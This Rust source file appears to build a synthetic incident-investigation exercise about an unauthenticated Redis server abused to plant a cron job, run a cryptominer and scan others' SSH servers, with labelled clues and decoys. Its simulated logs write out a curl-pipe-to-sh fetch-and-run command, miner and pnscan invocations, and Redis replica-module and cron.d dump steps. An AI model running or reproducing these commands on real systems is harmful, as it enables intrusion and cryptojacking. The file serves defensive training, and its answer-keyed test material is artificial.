//! A Redis server without a password is open to the world. A stranger makes it write a job, which fetches a miner; the miner
//! looks for more hosts over SSH.

use abate_model::truth::Attacker;
use abate_model::{Category, CauseKind, Factor, Text, Verdict};

use super::Scenario;
use crate::clock::{DAY, HOUR, Second};
use crate::flow::{Connection, Form, TCP};
use crate::folder::{Frame, Record};
use crate::hostfinding::Finding;
use crate::hostlog::{self, Exec, Logger};
use crate::noise::{self, Noise};
use crate::report::{self, Report, accusation};
use crate::rng::Rng;
use crate::scatter::Scattered;
use crate::stage::{Outcome, Stage};
use crate::world::{Host, World};
use crate::{clock, inventory};

pub(super) static SCENARIO: Scenario = Scenario {
    id: "open-redis-miner",
    title: Text::fixed("Miner and SSH scan through an open Redis server", "公開された Redis 経由のマイナーと SSH スキャン"),
    summary: Text::fixed(
        "A Redis server without a password was opened to the Internet. A stranger makes it write a job that fetches a miner, and the host then tries SSH servers of others.",
        "パスワードのない Redis がインターネットに公開されています。第三者が定期実行ジョブを書き込ませてマイナーを取得させ、ホストは外部の SSH サーバーに接続を試みます。",
    ),
    build,
};

const HOURS: (i64, i64) = (6, 10);

/// What differs from seed to seed, beside names and times.
struct Plot {
    host: Host,
    logger: Logger,
    /// a module comes over replication, instead of a job by a dump of the database
    module: bool,
    /// hundreds of hosts in minutes, instead of one at a time over hours
    burst: bool,
    /// from when on the host tries others
    scan: Second,
    script: String,
}

fn build(stage: &mut Stage) -> Outcome {
    let host = super::public_host(stage);
    let rng = &mut stage.attack;
    let (logger, module, burst) = (Logger::draw(rng, &host), rng.chance(40), rng.chance(50));
    let scan = stage.world.incident + rng.range(6, 40) * 60;
    let script = rng.pick(&["init.sh", "b.sh", "x/unix.sh", "s3f815/d/c.sh", "kin.sh"]).to_owned();
    let plot = Plot { host, logger, module, burst, scan, script };
    stage.world.flow_form = if rng.chance(40) { Form::Custom } else { Form::Version2 };
    stage.world.open_ports.push((plot.host.private.clone(), 6379));
    let world = stage.world.clone();

    let opened = stage.attack.chance(65).then(|| world.incident - stage.attack.range(18 * HOUR, 50 * HOUR));
    let mut calls: Vec<_> = opened
        .map(|at| super::opens(&world, &mut stage.attack, &plot.host, "tcp", 6379, at).because("Redis is opened to the whole Internet"))
        .into_iter()
        .collect();
    calls.push(super::opens_innocently(&world, &mut stage.attack, world.incident - 30 * HOUR));
    super::trail(stage, super::NO_BUILDS, calls);

    let what_is_left = stage.attack.range(0, 9);
    if what_is_left < 7 {
        host_logs(stage, &plot, what_is_left < 4);
    } else {
        let findings = findings(&world, &mut stage.attack, &plot);
        stage.log("evidence/guardduty-findings.json", Frame::FINDINGS, None, findings);
    }

    let mut seen = Vec::new();
    let mut flows = way_in(&world, &mut stage.attack, &plot);
    flows.extend(mining(&world, &mut stage.attack, &plot));
    flows.extend(tries(&world, &mut stage.attack, &plot, &mut seen));
    flows.extend(noise::draw(&world, &mut stage.attack, &plot.host, HOURS, &[Noise::Newsletter], 4));
    let rules = super::rules(
        &world,
        &plot.host,
        vec![inventory::rule("tcp", 6379, "0.0.0.0/0"), inventory::rule("tcp", 22, &format!("{}/32", world.office))],
    );
    super::flows_with(stage, HOURS, flows, &rules);

    let category = if plot.burst { Category::PortScan } else { Category::Intrusion };
    let notice = notice(&world, &mut stage.attack, &plot, &seen);
    let outcome = Outcome::new(category, CauseKind::UnauthenticatedService, Factor::Misconfiguration, Verdict::Confirmed, notice);
    let addresses = (0..3).map(|n| world.intruder(n).to_owned()).collect();
    Outcome { attacker: Attacker { addresses, principals: Vec::new() }, ..outcome }
}

/// Redis' own log, the system's log with the job, and perhaps the audit log.
fn host_logs(stage: &mut Stage, plot: &Plot, audited: bool) {
    let (world, name, start) = (stage.world.clone(), plot.host.name, stage.world.incident);
    let span = (start - 30 * HOUR, start + 9 * HOUR);
    let count = 90_u32.saturating_mul(stage.scales.hosts);
    let zone = plot.logger.zone();
    let ordinary = Scattered::boxed(count, span, move |_, rng, at| {
        let (child, changes) = (rng.range(20_000, 30_000), rng.pick(&["1 changes in 3600", "100 changes in 300", "10000 changes in 60"]));
        vec![
            redis(zone, at, &format!("* {changes} seconds. Saving...")),
            redis(zone, at, &format!("* Background saving started by pid {child}")),
            Record::plain(at, format!("{child}:C {} * DB saved on disk", zone.show(at, "%d %b %Y %H:%M:%S.481"))),
            redis(zone, at, "* Background saving terminated with success"),
        ]
    });
    let attack = redis_attack(&world, &mut stage.attack, plot);
    stage.log(format!("evidence/{name}/redis.log"), Frame::LINES, ordinary, attack);

    let mut jobs = Vec::new();
    for n in 0..stage.attack.range(20, 40) {
        let at = clock::floor(start, 60) + 120 + n * 120;
        let command = format!("(root) CMD (curl -fsSL http://{}/{} | sh)", world.intruder(1), plot.script);
        let record = plot.logger.line(at, &format!("CRON[{}]", 21_000 + n * 4), &command);
        jobs.push(if n == 0 { record.because("a job that nobody set up fetches a script and runs it") } else { record });
    }
    let backup = format!("(root) CMD (curl -fsS -m 10 https://ping.example.net/{} > /dev/null)", world.company);
    jobs.push(
        plot.logger.line(start - 3 * HOUR, "CRON[20117]", &backup).decoy("the nightly backup tells the monitoring service that it is done"),
    );
    let ordinary = plot.logger.system_days(160_u32.saturating_mul(stage.scales.hosts), span);
    stage.log(format!("evidence/{name}/syslog"), Frame::LINES, ordinary, jobs);
    if audited {
        let ordinary = hostlog::audit_days(110_u32.saturating_mul(stage.scales.hosts), span);
        let attack = audit(&world, &mut stage.attack, plot);
        stage.log(format!("evidence/{name}/audit.log"), Frame::LINES, ordinary, attack);
    }
    stage.parts.extend(plot.logger.clue(name, start + DAY));
}

fn redis(zone: clock::Zone, at: Second, message: &str) -> Record {
    Record::plain(at, format!("733:M {} {message}", zone.show(at, "%d %b %Y %H:%M:%S.117")))
}

fn redis_attack(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (start, from, zone) = (world.incident, world.intruder(0), plot.logger.zone());
    let asked = format!(
        "(user request from 'id={} addr={from}:{} laddr={}:6379')",
        rng.range(40, 900),
        rng.range(40_000, 60_000),
        plot.host.private
    );
    let mut lines = vec![
        redis(zone, start - 7 * HOUR, "# Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis. This is likely due to an attacker attempting to use Cross Protocol Scripting to compromise your Redis instance. Connection from 198.18.77.9:51002 aborted.")
            .decoy("a web scanner that knocks at Redis, and is sent away"),
    ];
    if plot.module {
        let master = world.intruder(1);
        lines.extend([
            redis(zone, start, &format!("* Before turning into a replica, using my own master parameters to synthesize a cached master. REPLICAOF {master}:8886 enabled {asked}"))
                .because("a stranger makes Redis the replica of a server of his"),
            redis(zone, start + 1, &format!("* Connecting to MASTER {master}:8886")),
            redis(zone, start + 1, "* MASTER <-> REPLICA sync started"),
            redis(zone, start + 2, "* Non blocking connect for SYNC fired the event."),
            redis(zone, start + 3, "* MASTER <-> REPLICA sync: Finished with success"),
            redis(zone, start + 4, "* Module 'system' loaded from ./red2.so").because("Redis loads the module that came with it"),
            redis(zone, start + 6, &format!("* MASTER MODE enabled {asked}")),
        ]);
    } else {
        lines.extend([
            redis(zone, start - 3, "* 1 changes in 60 seconds. Saving..."),
            redis(
                zone,
                start,
                "# Failed opening the temp RDB file temp-733.rdb (in server root dir /etc/cron.d) for saving: Permission denied",
            ),
            redis(zone, start + 8, "* DB saved on disk").because("the database is dumped into the folder of jobs, at a stranger's request"),
        ]);
    }
    lines
}

fn audit(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (start, pid) = (clock::floor(world.incident, 60) + 120, rng.range(21_000, 24_000));
    let url = format!("http://{}/{}", world.intruder(1), plot.script);
    let piped = format!("curl -fsSL {url} | sh");
    let exec = |at, pid, exe, argv: &[&str], cwd| Exec { at, pid, uid: 0, exe, argv, cwd }.lines();
    let mut lines = Exec { at: start, pid: (pid, 733), uid: 0, exe: "/usr/bin/dash", argv: &["/bin/sh", "-c", &piped], cwd: "/root" }
        .because("the script is fetched and run");
    lines.extend(exec(start, (pid + 1, pid), "/usr/bin/curl", &["curl", "-fsSL", &url], "/root"));
    lines.extend(exec(start + 3, (pid + 7, pid), "/usr/bin/chmod", &["chmod", "+x", "/tmp/.X11-unix/kdevtmpfsi"], "/root"));
    let pool = format!("{}:{}", world.intruder(2), 3333);
    let miner = ["/tmp/.X11-unix/kdevtmpfsi", "-o", &pool, "--donate-level=0", "-B"];
    lines.extend(
        Exec { at: start + 4, pid: (pid + 8, pid), uid: 0, exe: miner[0], argv: &miner, cwd: "/tmp" }.because("the miner is started"),
    );
    let scanner = ["/tmp/.X11-unix/pnscan", "-t512", "-R", "6f 70 65 6e", "198.18.0.0/15", "22"];
    lines.extend(
        Exec { at: plot.scan, pid: (pid + 90, pid), uid: 0, exe: scanner[0], argv: &scanner, cwd: "/tmp" }
            .because("a scanner for SSH is started"),
    );
    let update = ["curl", "-fsSL", "-o", "/tmp/agent.deb", "https://packages.example.com/agent_latest_amd64.deb"];
    lines.extend(
        Exec { at: start - 5 * HOUR, pid: (9_117, 9_100), uid: 0, exe: "/usr/bin/curl", argv: &update, cwd: "/root" }
            .decoy("the monitoring agent is updated"),
    );
    lines
}

/// Strangers who ask Redis and leave, the one who stays, and what it then fetches.
fn way_in(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (host, start) = (&plot.host, world.incident);
    let (server, own) = ((host.private.as_str(), 6379), (host.private.as_str(), rng.range(40_000, 60_000)));
    let client = (world.intruder(0), rng.range(40_000, 60_000));
    let mut flows = Vec::new();
    for _ in 0..rng.range(8, 14) {
        let (other, at) = (rng.stranger().to_string(), start + rng.range(-5 * HOUR, 8 * HOUR));
        let client = (other.as_str(), rng.range(40_000, 60_000));
        let glance = Connection { host, client, server, protocol: TCP, at, seconds: 2, there: (6, 340), back: (5, rng.range(280, 4_100)) };
        flows.extend(glance.lines(world).into_iter().map(|record| record.decoy("a stranger looks at Redis and does no harm")));
    }
    let intruder = Connection { host, client, server, protocol: TCP, at: start - 4, seconds: 15, there: (31, 4_870), back: (24, 2_210) };
    flows.extend(intruder.because(world, "the stranger whose commands Redis obeys"));
    let fetched = Connection {
        host,
        client: own,
        server: (world.intruder(1), if plot.module { 8886 } else { 80 }),
        protocol: TCP,
        at: start + 124,
        seconds: 6,
        there: (610, 33_000),
        back: (1_740, 2_410_233),
    };
    flows.extend(fetched.because(world, "the host fetches the miner"));
    flows
}

/// The connection to the pool, interval by interval.
fn mining(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (pool, port) = ((world.intruder(2), rng.pick(&[3333_i64, 14_444, 443, 5555])), rng.range(40_000, 60_000));
    let mut flows = Vec::new();
    for n in 0..rng.range(18, 40) {
        let at = world.incident + 135 + n * 600;
        let client = (plot.host.private.as_str(), port);
        let (there, back) = ((rng.range(40, 70), rng.range(5_200, 8_900)), (rng.range(40, 60), rng.range(9_000, 15_000)));
        let pooled = Connection { host: &plot.host, client, server: pool, protocol: TCP, at, seconds: 590, there, back };
        flows.extend(if n == 0 { pooled.because(world, "the miner is in touch with its pool") } else { pooled.lines(world) });
    }
    flows
}

/// SSH servers of others, tried one after another. `seen` gets some in the middle, as a reporter sees them.
fn tries(world: &World, rng: &mut Rng, plot: &Plot, seen: &mut Vec<(Second, String)>) -> Vec<Record> {
    let (count, pause) = if plot.burst { (rng.range(200, 260), 4) } else { (rng.range(70, 100), rng.range(100, 160)) };
    let mut flows = Vec::new();
    for n in 0..count {
        let (target, at) = (rng.stranger().to_string(), plot.scan + n * pause + rng.range(0, pause / 2));
        let client = (plot.host.private.as_str(), rng.range(32_768, 60_999));
        let open = rng.chance(if plot.burst { 7 } else { 45 });
        let packets = rng.range(1, 3);
        let (there, back) = if open { ((22, 4_100), (20, 4_400)) } else { ((packets, packets * 60), (0, 0)) };
        let connection = Connection { host: &plot.host, client, server: (&target, 22), protocol: TCP, at, seconds: 3, there, back };
        flows.extend(match n {
            0 => connection.because(world, "the first SSH server of others that is tried"),
            _ if n == count / 2 => connection.because(world, "what the reporter saw"),
            _ => connection.lines(world),
        });
        if (count / 2..count / 2 + 4).contains(&n) {
            seen.push((at, target));
        }
    }
    flows
}

fn findings(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (host, start) = (&plot.host, world.incident);
    let base = Finding {
        kind: "CryptoCurrency:EC2/BitcoinTool.B!DNS",
        severity: 8.0,
        title: "An EC2 instance is querying a domain name associated with cryptocurrency activity.",
        host,
        seen: (start + 140, start + 5 * HOUR),
        count: 44,
        actor: true,
        domain: Some("pool.mining.example"),
        connection: None,
    };
    let unprotected = Finding {
        kind: "Recon:EC2/PortProbeUnprotectedPort",
        severity: 2.0,
        title: "An unprotected port on an EC2 instance is being probed.",
        seen: (start - 4 * HOUR, start - 4 * HOUR + 60),
        count: 2,
        actor: false,
        domain: None,
        connection: Some(("198.18.40.7", 51_117, 6379)),
        ..base
    };
    vec![
        unprotected.record(world, rng).decoy("a stranger who probes the port and does no harm"),
        base.record(world, rng).because("GuardDuty sees the miner"),
    ]
}

fn notice(world: &World, rng: &mut Rng, plot: &Plot, seen: &[(Second, String)]) -> Vec<u8> {
    let (at, source) = (seen.first().map_or(plot.scan, |(at, _)| *at), &plot.host.public);
    let mut excerpt = vec![report::opening(rng), String::new()];
    excerpt.extend(seen.iter().map(|(at, target)| match plot.burst {
        true => format!("{} {source} > {target}.22: Flags [S], length 0", clock::plain(*at)),
        false => format!("{} {target} sshd: Failed password for root from {source} port {} ssh2", clock::iso(*at), 40_000 + at % 20_000),
    }));
    let (accusation, activity) =
        if plot.burst { (accusation::PORT_SCAN, "Port Scanning") } else { (accusation::INTRUSION, "Intrusion Attempts") };
    let report = Report { resource: report::instance(&plot.host), accusation, activity: Some(activity), at, fields: Vec::new(), excerpt };
    report::write(world, rng, &report)
}
